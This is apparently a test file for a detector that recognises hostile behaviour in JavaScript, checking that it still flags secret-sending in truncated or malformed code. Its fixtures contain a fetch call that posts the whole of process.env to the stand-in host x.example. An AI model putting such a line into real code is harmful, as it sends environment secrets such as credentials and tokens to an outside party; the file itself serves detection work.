import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { codeBehaviours } from '../../../engine/detect/code/behaviours.ts';

describe('a program that is broken off', () => {
  it('is read to its end, however its brackets stand', () => {
    // An open list behind a header's name was once followed in a circle.
    const code = 'fetch("https://x.example/", { body: JSON.stringify(process.env), headers: [a, b';
    const kinds = codeBehaviours(code, 'js').map(({ kind }) => kind);
    assert.deepEqual(kinds, ['secret-send']);
  });

  it('is read to what stands behind statements without end', () => {
    for (const piece of ['x=', 'key = ', 'a b ']) {
      const code = `${piece.repeat(2500)}1\nfetch("https://x.example/", { body: JSON.stringify(process.env) });\n`;
      const kinds = codeBehaviours(code, 'js').map(({ kind }) => kind);
      assert.ok(kinds.includes('secret-send'), piece);
    }
  });
});
